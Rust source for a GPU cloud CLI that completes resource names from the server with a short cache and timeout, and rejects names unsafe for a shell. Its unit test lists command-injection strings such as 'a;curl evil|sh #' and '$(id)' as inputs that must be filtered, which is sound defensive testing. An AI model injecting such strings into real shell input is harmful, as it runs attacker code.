//! Values that the shell completes: what the server has, from a short-lived cache, within a bounded time.

use std::{
    ffi::OsStr,
    fs,
    path::{Path, PathBuf},
    time::Duration,
};

use chrono::{DateTime, Utc};
use clap::{Arg, Command};
use clap_complete::engine::{ArgValueCompleter, CompletionCandidate};
use serde_json::Value;

use super::{Kind, fetch::fetch, kinds};
use crate::{app::App, args::Global, resolve};

/// Longer than this a person does not wait for the tab key.
const PATIENCE: Duration = Duration::from_millis(1_500);
const FRESH: Duration = Duration::from_secs(60);

/// Lists that are not of resources with an id.
const SKU: Kind =
    Kind { noun: "product", prefix: "", path: "/catalog", names: &["sku"], list: "gpuaas catalog" };
const POLICY: Kind = Kind {
    noun: "policy key",
    prefix: "",
    path: "/policy-definitions",
    names: &["key"],
    list: "gpuaas policy definitions",
};
const REGION: Kind = Kind {
    noun: "region",
    prefix: "",
    path: "/platform/regions",
    names: &["code"],
    list: "gpuaas regions list",
};

/// What the value of an argument is, by the path of its command and its name.
fn kind_of(path: &[String], argument: &Arg) -> Option<&'static Kind> {
    let group = path.first().map(String::as_str).unwrap_or_default();
    Some(match argument.get_id().as_str() {
        "allocation" if group == "platform" => &kinds::PLATFORM_ALLOCATION,
        "allocation" => &kinds::ALLOCATION,
        "group" => &kinds::GROUP,
        "node" => &kinds::NODE,
        "pool" => &kinds::POOL,
        "region" => &REGION,
        "sku" | "sku_option" => &SKU,
        "key" if group == "policy" => &POLICY,
        "key" if group == "ssh-keys" => &kinds::SSH_KEY,
        "project" => &kinds::PROJECT,
        "org" if group == "platform" => &kinds::PLATFORM_ORG,
        "org" => &kinds::ORG,
        "account" if group == "service-accounts" => &kinds::SERVICE_ACCOUNT,
        "account" => &kinds::ACCOUNT,
        "user" if group == "platform" => &kinds::PLATFORM_USER,
        "user" | "person" => &kinds::MEMBER,
        "webhook" => &kinds::WEBHOOK,
        "invitation" => &kinds::INVITATION,
        _ => return None,
    })
}

/// Attaches completers to every argument whose values the server knows.
pub fn attach(command: Command) -> Command {
    attach_at(command, &[])
}

fn attach_at(command: Command, path: &[String]) -> Command {
    let names: Vec<String> = command.get_subcommands().map(|sub| sub.get_name().to_owned()).collect();
    // In place: the order of positional arguments is that of their definition.
    let mut command = command.mut_args(|argument| match kind_of(path, &argument) {
        Some(kind) => argument.add(ArgValueCompleter::new(move |current: &OsStr| candidates(kind, current))),
        None => argument,
    });
    for name in names {
        let below: Vec<String> = path.iter().cloned().chain([name.clone()]).collect();
        command = command.mut_subcommand(name, |sub| attach_at(sub, &below));
    }
    command
}

fn candidates(kind: &'static Kind, current: &OsStr) -> Vec<CompletionCandidate> {
    let typed = current.to_string_lossy();
    let names = values(kind).unwrap_or_default();
    let offered = names.into_iter().filter(|name| is_plain(name) && name.starts_with(typed.as_ref()));
    offered.map(CompletionCandidate::new).collect()
}

/// Shells insert what is offered without quotes, and other tenants choose names: nothing that a shell would read as more
/// than a word is offered, nor what the program would read as an option.
fn is_plain(name: &str) -> bool {
    let plain = |c: char| c.is_alphanumeric() || "._@:+/-".contains(c);
    !name.is_empty() && !name.starts_with('-') && name.chars().all(plain)
}

/// None of it is worth an error: the shell then offers nothing.
fn values(kind: &'static Kind) -> Option<Vec<String>> {
    let app = App::new(Global::of_context()).ok()?;
    let file = cache_file(&app, kind)?;
    if let Some(known) = cached(&app, &file) {
        return Some(known);
    }
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().ok()?;
    let read = async { tokio::time::timeout(PATIENCE, read(&app, kind)).await.ok().flatten() };
    let names = runtime.block_on(read)?;
    if let Ok(text) = serde_json::to_vec(&names) {
        let _ = crate::config::write_private(&file, &text);
    }
    Some(names)
}

async fn read(app: &App, kind: &'static Kind) -> Option<Vec<String>> {
    let client = app.client().await.ok()?;
    let mut within = Vec::new();
    if kind.path.contains("{org}") {
        within.push(("org", resolve::org(app, &client).await.ok()?));
    }
    if kind.path.contains("{project}") {
        within.push(("project", resolve::project(app, &client).await.ok()?));
    }
    let within: Vec<(&str, &str)> = within.iter().map(|(name, id)| (*name, id.as_str())).collect();
    let query =
        if kind.path.ends_with("/allocations") && kind.path.contains("{project}") { "live=true" } else { "" };
    let items = fetch(&client, kind, &within, query).await.ok()?;
    let name = |item: &Value| kind.names.first().and_then(|name| item[*name].as_str()).map(str::to_owned);
    let mut names: Vec<String> = items.iter().filter_map(name).collect();
    names.sort_unstable();
    names.dedup();
    Some(names)
}

fn cached(app: &App, file: &Path) -> Option<Vec<String>> {
    let written: DateTime<Utc> = fs::metadata(file).ok()?.modified().ok()?.into();
    // A file from the future is not fresh either.
    let age = (app.ambient.now() - written).to_std().ok()?;
    let text = fs::read(file).ok().filter(|_| age < FRESH)?;
    serde_json::from_slice(&text).ok()
}

/// One for each server, organization, project and kind.
fn cache_file(app: &App, kind: &Kind) -> Option<PathBuf> {
    let absolute = |name: &str| std::env::var_os(name).map(PathBuf::from).filter(|path| path.is_absolute());
    let base = absolute("XDG_CACHE_HOME").or_else(|| absolute("HOME").map(|home| home.join(".cache")))?;
    let place = format!("{} {:?} {:?} {}", app.server, app.org, app.project, kind.path);
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, place.as_bytes());
    Some(base.join("gpuaas").join(format!("{}.json", kernel::hex::encode(&digest.as_ref()[..16]))))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Names of the arguments of a command that are completed from the server.
    fn completed(path: &[&str]) -> Vec<String> {
        let command = crate::menu::command();
        let mut place = &command;
        for word in path {
            place = place.find_subcommand(word).unwrap();
        }
        let with = place.get_arguments().filter(|argument| argument.get::<ArgValueCompleter>().is_some());
        with.map(|argument| argument.get_id().to_string()).collect()
    }

    #[test]
    fn names_that_a_shell_would_run_are_not_offered() {
        for name in ["train-1", "ada@example.org", "quota.gpus_per_org", "übung"] {
            assert!(is_plain(name), "{name}");
        }
        for name in ["a;curl evil|sh #", "$(id)", "a b", "`id`", "*", "--yes", "a>b", "a&b", "~root", ""] {
            assert!(!is_plain(name), "{name}");
        }
    }

    #[test]
    fn products_machines_nodes_projects_and_policies_are_completed() {
        assert!(completed(&["launch"]).contains(&"sku".to_owned()));
        assert!(completed(&["ssh"]).contains(&"allocation".to_owned()));
        assert!(completed(&["nodes", "drain"]).contains(&"node".to_owned()));
        assert!(completed(&["policy", "explain"]).contains(&"key".to_owned()));
        assert!(completed(&["projects", "show"]).contains(&"project".to_owned()));
    }
}
